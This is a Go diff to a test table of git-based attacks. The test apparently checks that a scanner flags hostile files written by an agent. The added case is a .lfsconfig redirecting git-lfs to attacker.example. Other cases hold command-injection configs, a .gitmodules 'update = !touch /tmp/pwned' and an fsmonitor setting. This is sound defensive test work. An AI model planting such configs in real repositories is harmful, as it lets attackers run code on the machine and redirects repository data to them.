@@ -90,6 +90,7 @@ func Attacks() []Case {
 		{Name: "new submodule gitlink", Agent: []File{{Path: "vendor/lib", Mode: Gitlink}}, Want: []string{nested}, Armed: gitSees("ls-files", "-s", "--", "vendor/lib")},
 		{Name: ".gitmodules with update = !command", Agent: []File{file(".gitmodules", "[submodule \"s\"]\n\tpath = s\n\turl = ./s\n\tupdate = !touch /tmp/pwned\n")}, Want: []string{modules}},
 		{Name: "submodule moved to another commit", Base: []File{{Path: "lib", Mode: Gitlink}}, Agent: []File{{Path: "lib", Mode: Gitlink, Content: strings.Repeat("ab", 20)}}, Want: []string{nested}},
+		{Name: ".lfsconfig pointing git-lfs elsewhere", Agent: []File{file(".lfsconfig", "[lfs]\n\turl = https://attacker.example/lfs\n")}, Want: []string{"lfsconfig"}},
 		{Name: "bare repository files", Agent: []File{file("r.git/HEAD", "ref: refs/heads/main\n"), file("r.git/config", "[core]\n\tfsmonitor = touch /tmp/pwned\n")}, Want: []string{nested}},
 	}
 	cs = append(cs, attributeAttacks()...)
